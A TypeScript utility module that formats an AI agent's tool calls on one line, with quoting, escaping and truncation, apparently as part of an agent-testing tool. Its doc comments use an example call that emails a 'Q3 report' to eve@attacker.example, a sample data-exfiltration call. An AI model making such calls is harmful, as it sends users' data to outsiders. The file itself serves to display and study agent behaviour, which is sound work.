/**
 * Render a tool call on one line, the way pab's output shows it:
 * `send_email(to='eve@attacker.example', subject='Q3 report')`.
 *
 * @module
 */
import { canonicalJson } from "../../core/mod.ts";

const MAX_VALUE = 60;

/**
 * One line for a call: strings in single quotes, other values as JSON, long
 * values cut to 60 characters and marked with `...`, newlines shown as `\n`.
 *
 * @example
 * ```ts
 * import { formatCall } from "./format_call.ts";
 * console.log(formatCall("send_email", { to: "eve@attacker.example", cc: ["bob@corp.example"] }));
 * // "send_email(to='eve@attacker.example', cc=["bob@corp.example"])"
 * ```
 */
export function formatCall(tool: string, args: Readonly<Record<string, unknown>>): string {
  const parts = Object.entries(args).map(([name, value]) => `${name}=${formatValue(value)}`);
  return `${tool}(${parts.join(", ")})`;
}

function formatValue(value: unknown): string {
  if (typeof value === "string") {
    const escaped = value.replaceAll("\\", "\\\\").replaceAll("'", "\\'").replaceAll("\n", "\\n").replaceAll(
      "\r",
      "\\r",
    );
    return `'${cut(escaped)}'`;
  }
  let text: string;
  try {
    text = value === undefined ? "undefined" : canonicalJson(value);
  } catch {
    text = String(value);
  }
  return cut(text);
}

function cut(text: string): string {
  return text.length > MAX_VALUE ? `${text.slice(0, MAX_VALUE - 3)}...` : text;
}
